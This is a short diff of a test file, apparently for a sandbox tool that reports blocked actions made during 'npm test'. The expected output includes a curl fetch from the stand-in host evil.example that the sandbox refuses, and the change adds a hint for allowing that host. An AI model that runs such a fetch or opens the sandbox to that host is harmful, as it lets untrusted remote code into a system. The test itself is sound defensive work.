@@ -148,7 +148,7 @@ step 1: npm test  in WS (layer); weaker: memory, network (missing)
       |     denial write /etc/hosts: not a writable place (to allow it: --write /etc/hosts)
       |     denial call ptrace: system call
       +- 13 /usr/bin/curl -s https://evil.example/x … (through 12)
-            connection evil.example:443 refused, 3 times: not allowed, 0 ms""".replace("WS", place.ws).splitlines(), "the tree")
+            connection evil.example:443 refused, 3 times: not allowed, 0 ms (to allow it: --allow evil.example)""".replace("WS", place.ws).splitlines(), "the tree")
 
 
 @test("a tree of numbers that were used again, and one that is deeper than any screen")
